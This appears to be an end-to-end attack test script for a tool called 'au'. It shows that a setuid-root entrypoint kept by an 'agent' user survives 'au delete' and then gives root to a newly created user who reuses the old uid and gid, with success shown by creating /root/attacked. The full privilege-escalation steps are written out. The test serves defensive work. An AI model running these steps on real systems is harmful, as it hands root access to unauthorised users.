#!/bin/sh
# The entrypoint outlives `au delete`, and makes root of a stranger who gets the group's id
. /opt/e2e/attacks-original/common
uid=$(id -u agent) gid=$(stat -c %g $E)
run_as_agent sh -c "cp -p $E /home/agent/kept; mv $E /home/agent/kept"
must as alice au delete -y
kept=$(find /home /usr /var/tmp -perm -4000 -user root \( -name kept -o -name su_as_agent \))
[ -n "$kept" ] || exit 1
must groupadd --gid "$gid" newgroup
must useradd --uid "$uid" --home-dir /home/agent newcomer
must usermod -aG newgroup carol
su_for_all /home/carol/pam
chown -R carol /home/carol/pam
E=$kept
enter carol /home/carol/pam ../../etc/pam.d -- su root -c 'touch /root/attacked'
succeeded test -e /root/attacked
